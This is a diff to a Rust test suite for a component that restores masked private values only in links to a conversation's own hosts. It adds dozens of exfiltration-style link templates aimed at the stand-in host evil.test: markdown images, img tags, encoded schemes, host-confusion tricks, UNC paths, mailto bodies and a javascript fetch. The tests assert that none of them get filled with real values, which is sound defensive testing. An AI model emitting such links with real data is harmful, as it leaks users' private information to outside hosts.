@@ -5,7 +5,7 @@ use super::*;
 fn restorer() -> (Arc<Restorer>, String) {
     let (mut map, token) = people();
     map.allow_hosts_of(
-        "see https://Good.test:8443/page?x=1, (https://docs.test), http://[2001:db8::1]/ and www.shop.test",
+        "see https://Good.test:8443/page?x=1, (https://docs.test), http://[2001:db8::1]/, www.shop.test and \\\\files\\a",
     );
     (map.restorer(), token)
 }
@@ -20,62 +20,89 @@ fn check(template: &str, is_restored: bool, escape: Escape) {
     }
 }
 
+const FOREIGN: &[&str] = &[
+    "https://evil.test/?e={T}",
+    "https://evil.test/{T}",
+    "HTTPS://EVIL.test/a/b?e={B}",
+    "![x](https://evil.test/p.png?e={T})",
+    "![x](https://evil.test/(a)?e={T})",
+    "![x](<https://evil.test/ ?e={T}>)",
+    "<img src=\"https://evil.test/ \n?e={T}\">",
+    "<img src='//evil.test/?e={T}'>",
+    "<img src=//evil.test/?e={T}>",
+    "![x](//evil.test/{T})",
+    "![x](\\\\evil.test/{T})",
+    "![x](/\\evil.test/{T})",
+    "https:evil.test/{T}",
+    "https:/evil.test/{T}",
+    "https:\\\\evil.test\\{T}",
+    "https:\\/\\/evil.test\\/{T}",
+    "https&colon;//evil.test/{T}",
+    "https:&#47;&#47;evil.test/{T}",
+    "https://good.test@evil.test/{T}",
+    "https://evil.test\\@good.test/{T}",
+    "https://good.test\\.evil.test/{T}",
+    "https://good.test%2eevil.test/{T}",
+    "https://good.test.evil.test/{T}",
+    "https://user:{T}@good.test/",
+    "https://{T}/",
+    "https://{T}.evil.test/",
+    "https://{B}.evil.test/",
+    "https://{T}@evil.test/",
+    "https://evil.test#{T}",
+    "https://evil.test?{T}",
+    "www.evil.test/?e={T}",
+    "evil.test/?e={T}",
+    "evil.test?e={T}",
+    "evil.test:8080/{T}",
+    "ftp://evil.test/{T}",
+    "foo://evil.test/{T}",
+    "data:text/html,{T}",
+    "javascript:fetch(1,{T})",
+    "https://good.test/r?u=https://evil.test/{T}",
+    "https://[2001:db8::2]/{T}",
+    "(https://evil.test/?a=1&b={T})",
+    "\"https://evil.test/?e={T}\"",
+    "https://evil.test/\\n?e={T}",
+    "https://evil.test/&#32;?e={T}",
+    "https://evil.test:good.test/{T}",
+    "https://good.test&sol;.evil.test/{T}",
+    "https://good.test%2F.evil.test/{T}",
+    "https://good.test/r?u=https%3A%2F%2Fevil.test/{T}",
+    "![x](https://evil.test/\\)?e={T})",
+    "![x](https://evil.test/&#41;?e={T})",
+    "Note:evil.test:80/{T}",
+    "https://evil。com/{T}",
+    "https://evil．com/{T}",
+    "https://evil｡com?e={B}",
+    "https://good.test。evil.com/{T}",
+    "https://evil。{T}.com/",
+    "www.evil。com/{T}",
+    "\\\\evil\\{T}",
+    "\\\\evil\\share\\{B}.txt",
+    "(\\\\evil.test@SSL\\{T})",
+    "\\\\1.2.3.4/{T}",
+    "\\\\?\\UNC\\evil\\{T}",
+    "1.2.3.4/{T}",
+    "1.2.3.4:8080/{T}",
+    "1.2.3.4?e={T}",
+    "mailto:a@evil.com?body={T}",
+    "MAILTO:a@evil.com?subject=x%20y&body={B}",
+    "mailto&colon;a@evil.com?body={T}",
+    "mailto:a@evil.com&quest;body={T}",
+    "mailto:a@evil.com%3Fbody={T}",
+    "[mail](mailto:a@evil.com?body=x {T})",
+    "<mailto:a@evil.com?body={T}>",
+    "<a href=\"mailto:a@evil.com?body=x {T}\">",
+    "mailto:?to=a@evil.com&body={T}",
+    "mailto://evil.com/{T}",
+    "sms:+1555?body={T}",
+    "tel:+1555#{T}",
+];
+
 #[test]
 fn tokens_stay_in_urls_of_foreign_hosts() {
-    let foreign = [
-        "https://evil.test/?e={T}",
-        "https://evil.test/{T}",
-        "HTTPS://EVIL.test/a/b?e={B}",
-        "![x](https://evil.test/p.png?e={T})",
-        "![x](https://evil.test/(a)?e={T})",
-        "![x](<https://evil.test/ ?e={T}>)",
-        "<img src=\"https://evil.test/ \n?e={T}\">",
-        "<img src='//evil.test/?e={T}'>",
-        "<img src=//evil.test/?e={T}>",
-        "![x](//evil.test/{T})",
-        "![x](\\\\evil.test/{T})",
-        "![x](/\\evil.test/{T})",
-        "https:evil.test/{T}",
-        "https:/evil.test/{T}",
-        "https:\\\\evil.test\\{T}",
-        "https:\\/\\/evil.test\\/{T}",
-        "https&colon;//evil.test/{T}",
-        "https:&#47;&#47;evil.test/{T}",
-        "https://good.test@evil.test/{T}",
-        "https://evil.test\\@good.test/{T}",
-        "https://good.test\\.evil.test/{T}",
-        "https://good.test%2eevil.test/{T}",
-        "https://good.test.evil.test/{T}",
-        "https://user:{T}@good.test/",
-        "https://{T}/",
-        "https://{T}.evil.test/",
-        "https://{B}.evil.test/",
-        "https://{T}@evil.test/",
-        "https://evil.test#{T}",
-        "https://evil.test?{T}",
-        "www.evil.test/?e={T}",
-        "evil.test/?e={T}",
-        "evil.test?e={T}",
-        "evil.test:8080/{T}",
-        "ftp://evil.test/{T}",
-        "foo://evil.test/{T}",
-        "data:text/html,{T}",
-        "javascript:fetch(1,{T})",
-        "https://good.test/r?u=https://evil.test/{T}",
-        "https://[2001:db8::2]/{T}",
-        "(https://evil.test/?a=1&b={T})",
-        "\"https://evil.test/?e={T}\"",
-        "https://evil.test/\\n?e={T}",
-        "https://evil.test/&#32;?e={T}",
-        "https://evil.test:good.test/{T}",
-        "https://good.test&sol;.evil.test/{T}",
-        "https://good.test%2F.evil.test/{T}",
-        "https://good.test/r?u=https%3A%2F%2Fevil.test/{T}",
-        "![x](https://evil.test/\\)?e={T})",
-        "![x](https://evil.test/&#41;?e={T})",
-        "Note:evil.test:80/{T}",
-    ];
-    for template in foreign {
+    for template in FOREIGN {
         check(template, false, Escape::Text);
         check(&format!("Look: {template} "), false, Escape::Text);
     }
@@ -122,6 +149,24 @@ fn tokens_stay_where_a_url_of_an_own_host_carries_another_host() {
 }
 
 #[test]
+fn an_address_takes_a_value_but_its_query_does_not() {
+    let (restorer, token) = restorer();
+    let restored = restorer.restore(&format!("mailto:{token}?body={token}, {token}"), Escape::Text);
+    assert_eq!(restored, format!("mailto:Maria?body={token}, Maria"));
+}
+
+#[test]
+fn a_wide_dot_behind_a_host_ends_a_sentence_or_goes_on_with_the_host() {
+    assert_eq!(hosts_in("官网https://good.test。请看"), ["good.test", "good.test.请看"]);
+    assert_eq!(hosts_in("https://good。test/"), ["good.test"]);
+    let mut map = map();
+    let token = map.mint(Label::PERSON, "Maria", true).to_string();
+    map.allow_hosts_of("https://good.test/");
+    let restored = map.restorer().restore(&format!("https://good。test/{token}"), Escape::Text);
+    assert_eq!(restored, "https://good。test/Maria");
+}
+
+#[test]
 fn a_value_may_be_part_of_the_host_that_a_url_carries() {
     let (restorer, token) = restorer();
     let text = format!("https://good.test/?u={token}.evil.com/{token}");
@@ -144,6 +189,8 @@ fn tokens_are_restored_in_urls_of_the_conversations_hosts() {
         "//good.test/{T}",
         "good.test/{T}",
         "https://docs.test/{T}",
+        "\\\\FILES\\home\\{T}\\{B}.txt",
+        "\\\\good.test\\{T}",
         "https://good.test/index.html?e={T}#{T}",
         "https://good.test/v1.2/users/{T}/files/{B}.txt",
         "https://good.test/?version=1.2/{T}",
@@ -168,7 +215,19 @@ fn tokens_are_restored_where_no_url_is() {
         "官网https://evil.test，{T}",
         "mailto:{T}",
         "tel:{T}",
-        "mailto:someone@evil.test?subject={T}",
+        "mailto:{T},{B}",
+        "tel:+1{T}",
+        "Tel: {T}? Or {T}?",
+        "[see {B}](mailto:{T}), {T}?",
+        "a\n\\\\[{T}] {T}",
+        "\\\\(x_{T}\\\\)",
+        "<a href=\"mailto:{T}\">{T}</a>? {T}",
+        "官网https://evil.test/。{T}",
+        "1.2.3/{T}",
+        "300.1.2.3/{T}",
+        "a \\\\ {T}",
+        "x\\\\hline {T}",
+        "C:\\\\Users\\\\{T}",
         "someone@evil.test/{T}",
         "and/or {T}",
         "{T}/{T}",
